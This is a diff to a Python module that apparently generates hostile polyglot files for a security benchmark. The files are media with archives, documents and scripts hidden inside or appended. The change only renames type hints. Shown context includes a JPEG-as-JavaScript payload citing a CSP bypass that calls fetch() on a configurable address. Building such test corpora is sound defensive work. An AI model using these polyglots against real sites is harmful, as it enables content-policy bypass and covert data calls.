@@ -5,13 +5,12 @@ from __future__ import annotations
 import io
 import tarfile
 import zipfile
-from collections.abc import Iterator
 
 from benchmarks.hostile import samples
-from benchmarks.hostile.parts import Address, box, chunk, riff
+from benchmarks.hostile.parts import Address, Files, box, chunk, riff
 
 
-def polyglots(to: Address) -> Iterator[tuple[str, bytes]]:
+def polyglots(to: Address) -> Files:
     """Honest media with an archive, a document, a page, a script or a program where its reader finds it."""
     for name, honest in _media():
         yield f"zip-behind-{name}", honest + _zip()
@@ -32,7 +31,7 @@ def polyglots(to: Address) -> Iterator[tuple[str, bytes]]:
             yield f"trailer.{form.lower()}", samples.still(form) + trailer
 
 
-def _media() -> Iterator[tuple[str, bytes]]:
+def _media() -> Files:
     yield "picture.jpg", samples.still("JPEG")
     yield "picture.png", samples.still("PNG")
     yield "picture.webp", samples.still("WEBP")
@@ -42,7 +41,7 @@ def _media() -> Iterator[tuple[str, bytes]]:
     yield "sound.ogg", samples.sound("ogg", "libopus")
 
 
-def _inside(to: Address) -> Iterator[tuple[str, bytes]]:
+def _inside(to: Address) -> Files:
     """Near the beginning, in a place that the honest reader skips."""
     for label, secret in (
         ("pdf", _pdf()),
@@ -59,7 +58,7 @@ def _inside(to: Address) -> Iterator[tuple[str, bytes]]:
     yield "disc.mp4", _boxed_mp4(bytes(32_769 - 40) + b"CD001" * 20)
 
 
-def _as_scripts(to: Address) -> Iterator[tuple[str, bytes]]:
+def _as_scripts(to: Address) -> Files:
     """JavaScript whose first word is the magic (Heyes, "Bypassing CSP using polyglot JPEGs", 2016)."""
     script = f"*/=fetch('{to.http}')/*".encode()
     jpeg = samples.still("JPEG")
